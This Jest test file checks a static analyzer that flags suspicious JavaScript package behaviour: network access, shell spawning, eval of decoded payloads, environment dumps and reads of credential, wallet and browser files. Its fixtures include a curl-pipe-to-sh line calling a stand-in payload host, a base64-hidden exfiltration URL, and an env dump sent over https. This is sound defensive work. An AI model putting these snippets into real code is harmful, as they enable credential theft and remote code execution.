import { analyzeSource, isSourceFile, MAX_AST_BYTES } from '../../../src/checks/code/source-facts.js';
import type { Fact } from '../../../src/model/types.js';

const facts = (code: string, path = 'lib/x.js'): Fact[] => analyzeSource(path, code);
const keys = (code: string, path?: string): string[] => facts(code, path).map((f) => f.key).sort();
const fact = (code: string, key: string): Fact | undefined => facts(code).find((f) => f.key === key);
const b64 = (text: string) => Buffer.from(text).toString('base64');

describe('network', () => {
  test('loading a network module, plain, node:-prefixed, imported or assembled', () => {
    expect(keys("const h = require('https');")).toEqual(['network:module:https']);
    expect(keys("import net from 'node:net';")).toEqual(['network:module:net']);
    expect(keys("const { lookup } = await import('dns/promises');")).toEqual(['network:module:dns']);
    expect(keys("const h = require('ht' + 'tps');")).toEqual(['network:module:https', 'obfuscation:hidden-require']);
    expect(keys("const axios = require('axios'); axios.post('/x');")).toEqual(['network:module:axios']);
  });

  test('browser network APIs: fetch, XMLHttpRequest, WebSocket, sendBeacon', () => {
    expect(keys('fetch(url);')).toEqual(['network:fetch']);
    expect(keys('const x = new XMLHttpRequest();')).toEqual(['network:xmlhttprequest']);
    expect(keys("new WebSocket(u);")).toEqual(['network:websocket']);
    expect(keys('navigator.sendBeacon(u, data);')).toEqual(['network:sendbeacon']);
  });

  test('one fact per server named in a string literal, not in comments, prose or placeholders', () => {
    const code = [
      '// see https://docs.commented-host.dev/api for the protocol',
      "const api = 'https://api.collector.dev/v1/upload';",
      "const docs = 'See https://prose-host.dev/guide for details';",
      "const local = 'http://localhost:8080/x'; const ex = 'https://www.example.com/a'; const w = 'http://www.w3.org/2000/svg';",
      "const cmd = 'curl -s https://dl.payload-host.net/x.sh | sh';",
    ].join('\n');
    expect(keys(code)).toEqual(['network:host:api.collector.dev', 'network:host:dl.payload-host.net']);
    const api = fact(code, 'network:host:api.collector.dev')!;
    expect(api).toMatchObject({ kind: 'network', severity: 'medium', file: 'lib/x.js', line: 2 });
    expect(api.evidence).toBe("const api = 'https://api.collector.dev/v1/upload';");
  });

  test('a host hidden in base64 is decoded and said to be hidden', () => {
    const found = fact(`const u = atob('${b64('https://exfil.hidden-host.io/c')}');`, 'network:host:exfil.hidden-host.io');
    expect(found?.detail).toContain('hidden in the source as base64');
  });
});

describe('shell', () => {
  test('child_process through an alias, destructuring, an assembled name, or an import', () => {
    expect(keys("const cp = require('child_process'); cp.exec('ls');")).toEqual(['shell:child_process.exec', 'shell:module:child_process', 'shell:program:ls']);
    expect(keys("const { spawnSync: run } = require('node:child_process'); run('ls');")).toEqual(['shell:child_process.spawnSync', 'shell:module:child_process', 'shell:program:ls']);
    expect(keys("require('child_' + 'process')['ex' + 'ec']('id');")).toEqual(['obfuscation:hidden-require', 'shell:child_process.exec', 'shell:module:child_process', 'shell:program:id']);
    expect(keys("import { execFile } from 'child_process';")).toEqual(['shell:child_process.execFile', 'shell:module:child_process']);
  });

  test('process.binding(spawn_sync) reaches the spawner without child_process', () => {
    expect(keys("process.binding('spawn_' + 'sync').spawn({ file: 'sh' });")).toEqual(['shell:process.binding:spawn_sync']);
  });

  test('look-alikes: a regex exec, a method called spawn on another object', () => {
    expect(keys("const m = /a(b)/.exec(s); worker.spawn(); db.exec('select 1');")).toEqual([]);
  });

  test('severity and sentence', () => {
    const found = fact("require('child_process').execSync('x')", 'shell:child_process.execSync')!;
    expect(found.severity).toBe('high');
    expect(found.detail).toBe(
      'lib/x.js spawns shell commands through `child_process.execSync`, so this package can run any program on the machine that installs or uses it.',
    );
  });
});

describe('eval', () => {
  test('eval of a decoded payload is critical, and the payload is analyzed', () => {
    const code = `eval(Buffer.from('${b64("require('child_process').exec('curl x')")}', 'base64').toString());`;
    expect(keys(code)).toEqual(['eval:eval:decoded', 'shell:child_process.exec', 'shell:module:child_process', 'shell:program:curl']);
    expect(fact(code, 'eval:eval:decoded')!.severity).toBe('critical');
    expect(fact(code, 'shell:module:child_process')!.detail).toContain('(in code hidden as base64)');
  });

  test('indirections: global[...] with a folded name, joined arrays, reversed strings, (0, eval)', () => {
    expect(keys("global['ev' + 'al'](code);")).toEqual(['eval:eval']);
    expect(keys("const n = ['e','v','a','l'].join(''); globalThis[n](code);")).toEqual(['eval:eval']);
    expect(keys("window['lave'.split('').reverse().join('')](code);")).toEqual(['eval:eval']);
    expect(keys('(0, eval)(code);')).toEqual(['eval:eval']);
  });

  test('Function, module._compile, vm, timers with strings, data: imports', () => {
    expect(keys(`new Function(atob('${b64('return process')}'))();`)).toEqual(['eval:Function:decoded']);
    expect(keys("const f = Function('a', 'return a');")).toEqual(['eval:Function']);
    expect(keys('const m = new module.constructor(); m._compile(src, "x.js");')).toEqual(['eval:module._compile', 'eval:module.constructor']);
    expect(keys("const vm = require('vm'); vm.runInThisContext(src);")).toEqual(['eval:vm', 'eval:vm.runInThisContext']);
    expect(keys("setTimeout('doIt()', 10);")).toEqual(['eval:setTimeout-string']);
    const dataImport = `await import('data:text/javascript;base64,${b64("import 'node:child_process';")}');`;
    expect(keys(dataImport)).toEqual(['eval:data-url-import', 'shell:module:child_process']);
    expect(fact(dataImport, 'eval:data-url-import')!.severity).toBe('critical');
  });

  test('a function parameter is not the decoded value a file-level name of the same spelling holds', () => {
    const code = `const A = atob('${b64('x')}'); function run(A) { try { return (0, eval)(A); } catch (e) {} }`;
    expect(keys(code)).toEqual(['eval:eval']);
  });

  test('look-alikes: timers with functions, createRequire from module, a method named eval', () => {
    expect(keys('setTimeout(() => run(), 10); setInterval(tick, 5);')).toEqual([]);
    expect(keys("import { createRequire } from 'node:module'; const require = createRequire(import.meta.url);")).toEqual([]);
    expect(keys("const req = require('module').createRequire(__filename);")).toEqual([]);
    expect(keys('redis.eval(script, 0); parser.Function = 1;')).toEqual([]);
  });

  test('requiring module for its internals is a medium fact', () => {
    expect(fact("const Module = require('module'); Module.wrap(src);", 'eval:module')?.severity).toBe('medium');
  });
});

describe('env', () => {
  test('serializing, enumerating or sending process.env', () => {
    expect(keys('const s = JSON.stringify(process.env);')).toEqual(['env:serialize']);
    expect(keys('Object.keys(process.env).forEach(log);')).toEqual(['env:enumerate']);
    expect(keys('for (const k in process.env) out[k] = 1;')).toEqual(['env:enumerate']);
    expect(keys('Object.keys(process.env).forEach((k) => send(k));')).toEqual(['env:enumerate']);
    expect(keys("const all = { ...process.env }; socket.send(all);")).toEqual(['env:serialize']);
    expect(keys("const e = process['e' + 'nv']; JSON.stringify(e);")).toEqual(['env:serialize']);
  });

  test('critical when the same file reaches the network', () => {
    const found = fact("require('https').request(o).end(JSON.stringify({ env: process.env }));", 'env:serialize')!;
    expect(found.severity).toBe('critical');
    expect(found.detail).toContain('the same file can send data over the network');
  });

  test('look-alikes: single reads, child process env options, copies for a child', () => {
    const code = [
      "if (process.env.NODE_ENV === 'production') enable();",
      "const { spawn } = require('child_process');",
      "spawn('ls', [], { env: process.env });",
      "spawn('ls', [], { env: { ...process.env, FORCE_COLOR: '1' } });",
      'const env = Object.assign({}, process.env, { X: 1 }); spawn("ls", [], { env });',
      'const opts = Object.keys(process.env).filter((k) => /^debug_/i.test(k));',
      "const proxy = Object.keys(process.env).find((k) => k.toLowerCase() === 'https_proxy');",
    ].join('\n');
    expect(keys(code).filter((k) => k.startsWith('env:'))).toEqual([]);
  });

  test('reading many secret-looking variables by name', () => {
    const names = ['NPM_TOKEN', 'GITHUB_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'SLACK_TOKEN', 'API_KEY', 'DB_PASSWORD', 'GH_PAT'];
    const many = `const debug = 1;\n${names.map((n) => `a.push(process.env.${n});`).join('\n')}`;
    expect(keys(many)).toEqual(['env:secret-names']);
    expect(fact(many, 'env:secret-names')).toMatchObject({ line: 2, evidence: 'a.push(process.env.NPM_TOKEN);' });
    const ci = ['GITHUB_SHA', 'GITHUB_REF', 'GITHUB_ACTOR', 'GITHUB_EVENT_NAME', 'GITHUB_WORKFLOW', 'GITHUB_RUN_ID', 'GITHUB_JOB', 'GITHUB_ACTION'];
    expect(keys(ci.map((n) => `a.push(process.env.${n});`).join('\n'))).toEqual([]);
    expect(keys(names.slice(0, 3).map((n) => `a.push(process.env.${n});`).join('\n'))).toEqual([]);
    expect(keys('const { HOME, PATH, USER, SHELL, LANG, TERM, PWD, TMPDIR, EDITOR } = process.env;')).toEqual([]);
  });
});

describe('fs-sensitive', () => {
  test('secret files through path.join, templates, plain strings and wallet/browser paths', () => {
    expect(keys("fs.readFileSync(path.join(os.homedir(), '.npmrc'));")).toEqual(['fs-sensitive:~/.npmrc']);
    expect(keys('read(`${os.homedir()}/.ssh/id_rsa`);')).toEqual(['fs-sensitive:~/.ssh']);
    expect(keys("read(path.join(home, '.aws', 'credentials'));")).toEqual(['fs-sensitive:~/.aws/credentials']);
    expect(keys("const x = 'Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn';")).toEqual(['fs-sensitive:wallet:metamask']);
    expect(keys("const p = 'AppData/Local/Google/Chrome/User Data/Default/Login Data';")).toEqual(['fs-sensitive:browser:chrome-profile', 'fs-sensitive:browser:login-data']);
    expect(fact("read('/etc/passwd')", 'fs-sensitive:/etc/passwd')?.severity).toBe('high');
    expect(fact("read(home + '/.npmrc')", 'fs-sensitive:~/.npmrc')?.severity).toBe('critical');
  });

  test('look-alikes: prose mentions, similar names, comments', () => {
    const code = [
      '// reads ~/.npmrc for the registry',
      "throw new Error('Add your token to ~/.npmrc');",
      "const a = 'my.npmrc.md'; const b = '.envelope'; const c = 'wallet.data';",
      "const ignore = ['**/.npmrc', '.git/**'];",
    ].join('\n');
    expect(keys(code)).toEqual([]);
  });
});

describe('obfuscation', () => {
  const random = (alphabet: string, n: number) => {
    let seed = 42;
    return Array.from({ length: n }, () => alphabet[((seed = (seed * 1103515245 + 12345) % 2 ** 31) >>> 16) % alphabet.length]).join('');
  };

  test('long high-entropy hex and base64 strings', () => {
    expect(keys(`const p = '${random('0123456789abcdef', 400)}';`)).toEqual(['obfuscation:hex-blob']);
    const base64 = Buffer.from(random('abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ!@#$%', 300)).toString('base64');
    expect(keys(`const p = "${base64}";`)).toEqual(['obfuscation:base64-blob']);
  });

  test('look-alikes: images, fonts and wasm as base64, long prose, short hex', () => {
    const png = 'iVBORw0KGgo' + Buffer.from(random('abcdefgh12345', 300)).toString('base64');
    expect(keys(`const icon = 'data:image/png;base64,${png}'; const raw = '${png}';`)).toEqual([]);
    expect(keys(`const t = '${'lorem ipsum dolor sit amet '.repeat(20)}';`)).toEqual([]);
    expect(keys("const sha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';")).toEqual([]);
  });

  test('obfuscator identifiers: five or more distinct _0x names', () => {
    expect(keys('var _0x1a2b=1,_0x2b3c=2,_0x3c4d=3,_0x4d5e=4,_0x5e6f=5;')).toEqual(['obfuscation:hex-identifiers']);
    expect(keys('var _0x1a2b=1,_0x2b3c=2,_0x3c4d=3;')).toEqual([]);
  });

  test('escape-spelled strings and long char-code lists', () => {
    const escaped = '\\x72\\x65\\x71\\x75\\x69\\x72\\x65\\x28\\x22\\x68\\x74\\x74\\x70\\x73\\x22\\x29';
    expect(keys(`const s = "${escaped}";`)).toEqual(['obfuscation:escaped-strings']);
    expect(keys('const s = "\\x1b[31m" + text + "\\x1b[39m";')).toEqual([]);
    const codes = [...'require("https")'].map((c) => c.charCodeAt(0)).join(',');
    // The decoded text is code, so it is analyzed too.
    expect(keys(`const s = String.fromCharCode(${codes});`)).toEqual(['network:module:https', 'obfuscation:char-codes']);
    expect(keys('const nl = String.fromCharCode(10);')).toEqual([]);
  });

  test('a blob in a file that runs a decoded payload is high', () => {
    const blob = random('0123456789abcdef', 400);
    const code = `const d = require('crypto').createDecipheriv('aes-256-cbc', k, iv); const s = d.update('${blob}', 'hex', 'utf8') + d.final('utf8'); eval(s);`;
    expect(keys(code)).toEqual(['eval:eval:decoded', 'obfuscation:hex-blob']);
    expect(fact(code, 'obfuscation:hex-blob')!.severity).toBe('high');
  });
});

describe('parsing', () => {
  test('broken files are read by the tolerant parser', () => {
    expect(keys("const cp = require('child_process');\nfunction (( {\ncp.exec('x');")).toContain('shell:module:child_process');
  });

  test('TypeScript-only syntax still yields facts', () => {
    expect(keys("import https from 'node:https';\nconst get = (u: string): void => { https.get(u); };", 'src/x.ts')).toEqual(['network:module:https']);
  });

  test('files over the AST limit get a text scan that says so', () => {
    const big = `const cp = require("child_process");\n${'// padding line for size\n'.repeat(Math.ceil(MAX_AST_BYTES / 25) + 10)}`;
    const found = facts(big);
    expect(found.map((f) => f.key)).toEqual(['shell:module:child_process']);
    expect(found[0]!.detail).toContain('found by a text scan');
  });

  test('evidence from a minified line is a short window around the code; keys never hold paths', () => {
    const code = `${'var a=1;'.repeat(500)}require("child_process").exec("x");${'var b=2;'.repeat(500)}`;
    const found = facts(code, 'dist/app.min.js');
    for (const f of found) {
      expect(f.evidence!.length).toBeLessThanOrEqual(160);
      expect(f.key).not.toContain('dist/');
      expect(f.line).toBe(1);
    }
    expect(found[0]!.evidence).toContain('require("child_process")');
  });

  test('which files count as source', () => {
    expect(isSourceFile('a.mjs', '')).toBe(true);
    expect(isSourceFile('types.d.ts', '')).toBe(false);
    expect(isSourceFile('bin/cli', '#!/usr/bin/env node\nrequire("./x")')).toBe(true);
    expect(isSourceFile('bin/cli', '#!/bin/sh\necho hi')).toBe(false);
    expect(isSourceFile('README.md', '')).toBe(false);
  });
});

describe('hostile inputs', () => {
  test('deep nesting, huge concatenations, self-referencing names and binary noise neither throw nor hang', () => {
    const inputs = [
      '('.repeat(50000) + ')'.repeat(50000),
      '['.repeat(3000) + ']'.repeat(3000),
      Array.from({ length: 20000 }, (_, i) => `'a${i}'`).join('+'),
      'const a = b; const b = a; require(a); eval(b);',
      "function f(x) { return f(x) + 'a'; } require(f('b'));",
      'const s = String.fromCharCode(...Array(100000).fill(65));',
      '\u0000\u0001 garbage <<<>>> }}}{{{ ` ${ `',
    ];
    // A hang ends at jest's test timeout; how long the analysis takes belongs to the benchmark.
    for (const input of inputs) expect(() => analyzeSource('f.js', input)).not.toThrow();
    expect(keys('const a = b; const b = a; require(a); eval(b);')).toEqual(['eval:eval']);
  });
});
